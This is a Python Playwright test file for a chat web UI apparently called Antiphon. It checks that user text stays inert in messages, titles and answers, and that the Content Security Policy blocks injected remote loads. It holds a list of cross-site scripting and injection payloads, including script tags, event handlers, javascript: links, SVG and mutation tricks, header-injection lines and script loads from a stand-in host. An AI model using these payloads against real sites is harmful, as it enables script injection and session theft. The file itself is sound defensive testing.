"""Messages, titles and answers stay text: nothing in them runs, loads or links into the web UI."""

from __future__ import annotations

import re
from typing import Any

import pytest
from playwright.async_api import expect

from system.server_process import ServerProcess

from .faults import NOTHING, REMAINS
from .visit import Tab

pytestmark = pytest.mark.anyio

RUN = "window.pwned=1,alert(1)"
AWAY = "http://other.test/spy"

PROBES = {
    "script": f"<script>{RUN}</script>",
    "script closed early": f"</textarea></title></script><script src={AWAY}.js></script>",
    "event handler": f'<img src=x onerror="{RUN}"><body onload="{RUN}"><input autofocus onfocus="{RUN}">',
    "remote content": f"<img src={AWAY}><link rel=stylesheet href={AWAY}><iframe src={AWAY}></iframe>",
    "remote image": f"![spy]({AWAY}.png) ![spy][1] [1]: {AWAY}.png",
    "style": f"<style>@import '{AWAY}';*{{background:url({AWAY})}}</style><p style='background:url({AWAY})'>",
    "script link": f"[a](javascript:{RUN}) [b](JaVa&Tab;ScRiPt:{RUN}) [c](vbscript:{RUN}) <javascript:{RUN}>",
    "raw link": f'<a href="javascript:{RUN}">click</a><form action="javascript:{RUN}"><button>go</button></form>',
    "data page": f"[a](data:text/html,<script>{RUN}</script>) <iframe src='data:text/html,<script>{RUN}</script>'>",
    "data image": f"![svg](data:image/svg+xml,<svg/onload={RUN}>) ![svg](data:image/svg+xml;base64,PHN2Zy8+)",
    "SVG": f'<svg onload="{RUN}"><script>{RUN}</script><use href="{AWAY}#x"/></svg><math><mtext></mtext></math>',
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"><svg></p><style><a id="</style><b>',
    "clobbering": "<form id=app name=body><input name=attributes></form><a id=location name=cookie>x</a>",
    "sign-in link": "[own](#token=theirs) [own](/#token=theirs) [own](http:#token=theirs) [own](OWN/#token=theirs)",
    "ANSI": "\x1b[31mred\x1b[0m \x1b]8;;http://other.test\x07link\x1b]8;;\x07 \x1b[2J",
    "line ends": "one\r\nSet-Cookie: antiphon_session=theirs\r\n\r\nevent: bye\ndata: {}\n\n\u2028id: 9\u2029",
    "templates": "${7*7} {{7*7}} <%= 7*7 %> __proto__ constructor &lt;b&gt; %3Cscript%3E",
    "direction": "\u202egnp.exe \u2066 \u200f \x00 \x08 \ufeff end",
}


async def ask(server: ServerProcess, method: str, path: str, body: Any = None) -> Any:
    status, answer = await server.ask(method, path, body)
    assert status < 300, answer
    return answer


async def test_a_probe_stays_text_in_message_title_and_answer(tab: Tab, server: ServerProcess) -> None:
    for name, probe in PROBES.items():
        text = probe.replace("OWN", tab.visit.url)
        script = "".join(f"/say {line}\n" for line in text.replace("\r", "\n").split("\n") if line.strip())
        made = await ask(server, "POST", "/chats", {"title": text[:256], "content": f"{text}\n{script}"})
        await tab.page.goto(f"{tab.visit.url}/#/chat/{made['id']}")
        item = tab.chat_list.locator(f"[data-chat-id='{made['id']}'] .title")
        heading = tab.page.get_by_role("heading", level=1)
        await tab.message("assistant").wait_for()
        await tab.wait_idle()
        assert await tab.page.evaluate(REMAINS) == NOTHING, name
        messages = (await ask(server, "GET", f"/chats/{made['id']}/messages"))["messages"]
        assert (await tab.shown())[0][2] == messages[0]["content"][0]["text"].strip(), name
        assert [await heading.text_content(), await item.text_content()] == [made["title"].strip()] * 2, name


async def test_typed_text_stays_text_wherever_it_is_shown(tab: Tab) -> None:
    probe = PROBES["event handler"] + PROBES["script"]
    await tab.start_chat("/rate 20\n/tokens 1000")
    await tab.send(probe)
    await expect(tab.queue.locator(".queued-text")).to_have_text([probe])
    await tab.button("Edit", of=tab.queue.first).click()
    await tab.page.keyboard.press("Escape")
    await tab.act("Rename")
    await tab.page.get_by_label("Title", exact=True).fill(probe)
    await tab.page.keyboard.press("Enter")
    await expect(tab.page.get_by_role("heading", level=1)).to_have_text(probe)
    await expect(tab.page).to_have_title(re.compile(re.escape(f"{probe} · Antiphon")))
    assert await tab.page.evaluate(REMAINS) == NOTHING
    await tab.act("Delete")
    await tab.page.get_by_test_id("toast").get_by_text(f"“{probe}” was deleted.").wait_for()
    assert await tab.page.evaluate(REMAINS) == NOTHING
    await tab.page.get_by_role("heading", name="Start a chat").wait_for()


async def test_the_content_security_policy_blocks_what_a_sanitiser_would_miss(tab: Tab) -> None:
    tab.visit.expected += ["Content Security Policy", f"left the origin: {AWAY}"]
    async with tab.page.expect_event("requestfailed", lambda request: request.url == AWAY) as failed:
        await tab.page.evaluate(
            """address => document.querySelector('#app').insertAdjacentHTML('beforeend',
                `<img src="data:," onerror="window.pwned = 1"><img src="${address}">`)""",
            AWAY,
        )
    assert (await failed.value).failure == "csp"
    assert await tab.page.evaluate("window.pwned ?? null") is None
